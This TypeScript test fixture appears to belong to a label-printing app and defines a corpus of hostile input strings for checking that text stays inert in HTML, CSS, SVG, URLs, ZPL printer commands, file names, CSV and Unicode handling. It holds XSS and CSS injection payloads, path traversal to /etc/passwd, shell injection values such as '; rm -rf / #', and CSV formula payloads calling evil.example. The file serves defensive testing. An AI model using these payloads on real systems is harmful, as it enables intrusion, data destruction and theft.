/** Texts from outside that have hurt somebody's printing, files or screens. Each must be inert in every sink (P30). */
export interface Payload {
  readonly name: string
  readonly text: string
}

/** Where payloads would call if they could: a test listens there and hears nothing. */
export const trapPlace = '__TRAP__'

const named = (group: string, texts: readonly string[]): Payload[] =>
  texts.map((text, index) => ({ name: `${group} ${index + 1}`, text }))

const html = named('html', [
  '<script>document.body.textContent = "taken over"</script>',
  `<script src="${trapPlace}/script.js"></script>`,
  '<img src=x onerror="document.body.textContent=\'taken over\'">',
  `<img src="${trapPlace}/img">`,
  `"><img src="${trapPlace}/attribute">`,
  `' onmouseover='fetch("${trapPlace}/hover")`,
  `<iframe src="${trapPlace}/frame"></iframe>`,
  `<iframe srcdoc="<script>top.document.body.remove()</script>"></iframe>`,
  `<object data="${trapPlace}/object"></object><embed src="${trapPlace}/embed">`,
  `<form action="${trapPlace}/form"><input autofocus onfocus="this.form.submit()"></form>`,
  `<base href="${trapPlace}/">`,
  `<meta http-equiv="refresh" content="0;url=${trapPlace}/meta">`,
  `<link rel="stylesheet" href="${trapPlace}/css"><link rel="prefetch" href="${trapPlace}/prefetch">`,
  `<video autoplay src="${trapPlace}/video"></video><audio autoplay src="${trapPlace}/audio"></audio>`,
  '</main></body></html><h1>Paid in full</h1>',
  '</title></style></script><plaintext>',
  '<!-- <!--', // an open comment would swallow the rest
  '<details open ontoggle="document.body.remove()">',
  '&lt;script&gt;&#60;b&#62;&amp;&nbsp;&#x202e;',
  '<math><mtext></table><img src=x onerror=alert(1)>',
])

const css = named('css', [
  '<style>*{display:none!important}</style>',
  `</style><style>@import url(${trapPlace}/import);`,
  `<div style="position:fixed;inset:0;background:#fff;z-index:9">0.00</div>`,
  `x{}*{background:url(${trapPlace}/background)}`,
  '"}body{visibility:hidden}@page{size:10mm 10mm}',
  `@font-face{font-family:'Packdesk Sans';src:url(${trapPlace}/font)}`,
  '\\22 ;}*{content:"\\3c script\\3e "}',
  'expression(alert(1));behavior:url(#default)',
])

const svg = named('svg', [
  '<svg onload="document.body.remove()"></svg>',
  `<svg><script>document.body.remove()</script><image href="${trapPlace}/svg"/></svg>`,
  `<svg><foreignObject><iframe src="${trapPlace}/foreign"/></foreignObject></svg>`,
  `<svg><use href="${trapPlace}/use#x"/></svg>`,
])

const address = named('url', [
  'javascript:document.body.remove()',
  'data:text/html,<script>alert(1)</script>',
  `${trapPlace}/plain`,
  'file:///etc/passwd',
  '//127.0.0.1/share',
  '{{constructor.constructor("return process")()}} \u0024{7*7} <%= 7*7 %> #{7*7}',
])

const zpl = named('zpl', [
  '^XZ',
  '^XZ^XA^FDstolen^FS^XZ',
  '^FS^FO0,0^GB800,1200,1200^FS',
  '~JR',
  '~HS~HI~HM',
  '^CC!!XZ',
  '^CT+^CD;',
  '~DGR:LOGO.GRF,8,1,FFFFFFFFFFFFFFFF',
  '^IDR:*.*^JUF^JUS',
  '_5EXZ_7EJR',
  '^FH^FD_5E',
  '\u0002stx\u0003etx',
  '\u0010JR\u001eXZ\u001f\u000f',
  ':Z64:eJwDAAAAAAE=:0000',
  '>;>8>5>6>0><>=',
  '\u001b@\u001bm\u001dV\u0000',
  'SIZE 100 mm,150 mm\r\nCLS\r\nPRINT 99',
])

const files = named('file', [
  '../../../../etc/passwd',
  '..\\..\\Windows\\System32\\config',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '\\\\host\\share\\x',
  'CON',
  'nul.pdf',
  'COM1.pdf.',
  'LPT9 ',
  'order.pdf:stream',
  'a/./b/../c',
  '%2e%2e%2f',
  '~root',
  '-rf',
  '; rm -rf / #',
  '$(touch /tmp/x)`id`',
  'A\u0000.pdf',
  'e\u0301cole\u0301',
])

const csv = named('csv', [
  '=1+1',
  '=HYPERLINK("http://evil.example","open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'a","b\r\nc,d',
  '"',
])

const letters = named('letters', [
  '\u202egnp.ecitni\u202c',
  '\u2066\u2067\u2068\u2069\u200e\u200f\u061c',
  '\u202e\u202e\u202e\u202e12345',
  '🎁👨‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿🇵🇱',
  `Z${'\u0301\u0303\u0489'.repeat(60)}`,
  'ا\u064b\u0651\u0651\u0651'.repeat(40),
  'ﷺ'.repeat(50),
  '王小明 さくら ไทย עברית ქართული',
  '\u200b\u200c\u200d\ufeff\u2060',
  '\ud800',
  'a\udc00b\ud83d',
  '\u0000\u0007\u0008\u001b[31m\u009b\n\r\t',
  '\u2028\u2029\u0085',
  'x'.repeat(10_000),
  'W '.repeat(5_000),
  '\n'.repeat(2_000),
  'خیابان '.repeat(200),
  '\u{1d400}\u{1f170}ﬁﬃ①㎏',
  '__proto__',
  '',
  ' ',
])

/** At least sixty. Tests replace `trapPlace` by their own address. */
export const corpus: readonly Payload[] = [...html, ...css, ...svg, ...address, ...zpl, ...files, ...csv, ...letters]

export const corpusAt = (trap: string): readonly Payload[] =>
  corpus.map(({ name, text }) => ({ name, text: text.replaceAll(trapPlace, trap) }))
